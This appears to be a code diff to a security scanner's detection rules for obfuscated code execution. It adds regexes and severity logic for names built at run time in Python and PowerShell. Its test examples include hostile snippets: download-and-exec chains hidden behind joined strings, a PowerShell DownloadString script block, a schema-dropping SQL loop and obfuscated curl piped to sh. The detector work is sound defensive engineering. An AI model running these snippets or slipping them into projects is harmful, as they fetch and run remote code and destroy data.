@@ -700,7 +700,7 @@ const PRINTF_HEX = /\bprintf\s+(?:%b\s+)?["']((?:\\x[0-9a-fA-F]{2}){2,40})["']/g
 const INTERPRETER_WORD = /^(?:(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node|php|pwsh|powershell|nc|ncat)$/;
 const REVERSED_EXEC = /\[::-1\][^\n]{0,80}\b(?:exec|eval|system|popen|run|call)\b|\b(?:exec|eval|system|popen)\s*\([^\n]{0,80}\[::-1\]|\|\s*rev\s*\|\s*(?:ba)?sh\b|\.split\(\s*["']{2}\s*\)\s*\.reverse\(\)\s*\.join\(\s*["']{2}\s*\)[^\n]{0,80}\b(?:eval|Function|exec)\b/g;
 const RARE_DECODER = /\b(?:b85decode|a85decode|str_rot13)\s*\(|codecs\.decode\s*\([^)\n]{0,80}rot_?13|\btr\s+["']?(?:A-Za-z|a-zA-Z)["']?\s+["']?(?:N-ZA-Mn-za-m|n-za-mN-ZA-M)/g;
-const DYNAMIC_IMPORT = /\b__import__\s*\(\s*["'][^"'\n]{0,20}["']\s*\+|\bgetattr\s*\(\s*[\w.]+\s*,\s*["'][^"'\n]{0,20}["']\s*\+|\brequire\s*\(\s*["'][^"'\n]{0,20}["']\s*\+\s*["']|\b(?:getattr\s*\(\s*[\w.]+\s*,|__import__\s*\()\s*(?:["']{2}\.join\s*\(|chr\s*\(|bytes(?:\.fromhex)?\s*\(|bytearray\s*\(|[\w.]+\s*\[\s*::\s*-1\s*\])/g;
+const DYNAMIC_IMPORT = /\bNew-Object\s*\(\s*["'][^"'\n]{0,20}["']\s*\+|\[scriptblock\]::Create\s*\(\s*\$\w+\.\$\w+\s*\(|\b__import__\s*\(\s*["'][^"'\n]{0,20}["']\s*\+|\bgetattr\s*\(\s*[\w.]+\s*,\s*["'][^"'\n]{0,20}["']\s*\+|\brequire\s*\(\s*["'][^"'\n]{0,20}["']\s*\+\s*["']|\b(?:getattr\s*\(\s*[\w.]+\s*,|__import__\s*\()\s*(?:["']{2}\.join\s*\(|chr\s*\(|bytes(?:\.fromhex)?\s*\(|bytearray\s*\(|[\w.]+\s*\[\s*::\s*-1\s*\])/g;
 // Decoding on the line of a computed call: the name and the code it runs are both hidden.
 const DECODE_CALL = /\b(?:b64decode|b32decode|b85decode|decompress|unhexlify|fromhex|decodebytes|loads)\s*\(/;
 
@@ -710,7 +710,21 @@ anchored(IFS_SPLICE, ['ifs']);
 anchored(PRINTF_HEX, ['printf']);
 anchored(REVERSED_EXEC, ['[::-1]', 'rev', 'reverse()']);
 anchored(RARE_DECODER, ['b85decode', 'a85decode', 'rot', 'a-za-z']);
-anchored(DYNAMIC_IMPORT, ['__import__', 'getattr', 'require']);
+anchored(DYNAMIC_IMPORT, ['__import__', 'getattr', 'require', 'new-object', 'scriptblock']);
+// What a computed name resolves to, read from the quoted pieces after it: "".join(("e","x","e","c"))
+// and "url" + "open" are exec and urlopen.
+const RUNS_CODE_NAME = /^(?:exec|eval|system|popen|compile|spawn|execv|execve|execfile|check_output|Invoke-Expression|iex)$/i;
+const FETCH_NAME = /^(?:urlopen|urlretrieve|DownloadString|DownloadFile|DownloadData|get|request|Net\.WebClient|System\.Net\.WebClient)$/i;
+
+function computedName(text: string, index: number): string {
+  const rest = text.slice(index, Math.min(text.length, index + 200));
+  const call = /^[^\n]*?(?:getattr\s*\(\s*[\w.]+\s*,|__import__\s*\(|New-Object\s*\(|require\s*\()/.exec(rest);
+  const from = call ? call[0].length : 0;
+  // The pieces up to the parenthesis that closes the name (a join keeps its own parentheses).
+  const span = /^\s*(?:["']{2}\.join\s*\(\s*[([][^)\]\n]{0,160}[)\]]\s*\)|["'][^"'\n]{0,40}["'](?:\s*\+\s*["'][^"'\n]{0,40}["'])*)/.exec(rest.slice(from));
+  if (!span) return '';
+  return [...span[0].matchAll(/"([^"\n]*)"|'([^'\n]*)'/g)].map((p) => p[1] ?? p[2]).filter((p) => p !== '').join('');
+}
 
 function splitCommandMatches(file: FileView): RuleMatch[] {
   const text = file.text;
@@ -753,9 +767,18 @@ function splitCommandMatches(file: FileView): RuleMatch[] {
   if (mayMatch(file, REVERSED_EXEC)) for (const m of findAll(text, REVERSED_EXEC)) out.push({ ...m, message: 'Reversed string executed' });
   if (mayMatch(file, RARE_DECODER)) for (const m of findAll(text, RARE_DECODER)) out.push({ ...m, severity: 'low', message: 'Uncommon decoder (rot13/base85) used to hide text' });
   if (mayMatch(file, DYNAMIC_IMPORT)) {
-    for (const m of findAll(text, DYNAMIC_IMPORT)) {
+    const dynamic = findAll(text, DYNAMIC_IMPORT).map((m) => ({ m, name: computedName(text, m.index) }));
+    // Both a fetch and an exec reached through built names: downloaded code run with nothing to read.
+    const fetches = dynamic.some((d) => FETCH_NAME.test(d.name));
+    for (const { m, name } of dynamic) {
       const decodes = DECODE_CALL.test(file.lineAt(m.index));
-      out.push({ ...m, severity: decodes ? 'high' : undefined, message: decodes ? 'A function named by computed characters runs decoded data' : 'Module or attribute name built from strings' });
+      if (/^\[scriptblock\]/i.test(text.slice(m.index, m.index + 13))) {
+        out.push({ ...m, severity: 'high', message: 'A script block built from the result of a method named at run time' });
+      } else if (RUNS_CODE_NAME.test(name)) {
+        out.push({ ...m, severity: fetches ? 'critical' : 'high', message: fetches ? `Fetches and runs code through names built at run time ("${name}")` : `A call to ${name} hidden behind a name built at run time` });
+      } else {
+        out.push({ ...m, severity: decodes ? 'high' : undefined, message: decodes ? 'A function named by computed characters runs decoded data' : 'Module or attribute name built from strings' });
+      }
     }
   }
   return onePerLine(
@@ -990,6 +1013,8 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'pluginkit/catalog.py', text: 'body = getattr(net, "url" + "open")(src, timeout=4).read().decode()\ngetattr(b, "".join(("e", "x", "e", "c")))(compile(body, "<c>", "exec"))\n' },
+        { path: 'theme.ps1', text: "$w = New-Object ('Net.' + 'Web' + 'Client')\n$m = 'Download' + 'String'\nStart-Job -ScriptBlock { param($w,$h,$m) & ([scriptblock]::Create($w.$m($h))) } -ArgumentList $w,$h,$m\n" },
         { path: 'migrations/0001.sql', text: "FOR s IN SELECT nspname FROM pg_namespace LOOP\n  EXECUTE format('DR' || 'OP SCH' || 'EMA %I CASCADE', s);\nEND LOOP;\n" },
         { path: 'scripts/_compat.py', text: 'import builtins as _bi, zlib as _z, base64 as _b\ngetattr(_bi, "".join(map(chr, (101, 120, 101, 99))))(_z.decompress(_b.b64decode(_TABLE)))\n' },
         { path: 'lib/common.sh', text: '_F="cu""rl"\n_R="$(printf \'\\x73\\x68\')"\n( "$_F" -fsSL "$URL" | "$_R" ) &\n' },
